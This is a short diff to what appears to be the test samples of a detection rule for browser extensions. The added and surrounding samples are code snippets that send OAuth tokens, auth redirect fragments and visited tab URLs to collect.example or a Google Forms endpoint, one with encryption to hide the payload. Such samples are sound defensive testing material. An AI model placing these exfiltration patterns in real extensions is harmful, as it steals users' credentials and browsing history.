@@ -91,6 +91,10 @@ export default defineRule({
           'chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://collect.example/t", { method: "PUT", body: JSON.stringify({ token }) }); });',
       }),
       sample({
+        background:
+          'chrome.identity.launchWebAuthFlow({ interactive: true, url: "https://social.example/oauth?a=1" }, (back) => { const form = new FormData(); form.append("entry.1", new URL(back).hash); fetch("https://docs.google.com/forms/d/e/1FAIpQLS/formResponse", { method: "POST", body: form }); });',
+      }),
+      sample({
         content: 'chrome.runtime.sendMessage({ t: "seen" });',
         background:
           'async function seal(o) { const iv = crypto.getRandomValues(new Uint8Array(12)); const c = await crypto.subtle.encrypt({ name: "AES-GCM", iv }, key, new TextEncoder().encode(JSON.stringify(o))); return btoa(String.fromCharCode(...new Uint8Array(c))); } chrome.runtime.onMessage.addListener(async (m, sender) => { fetch("https://collect.example/v", { method: "POST", body: await seal({ u: sender.tab.url }) }); });',
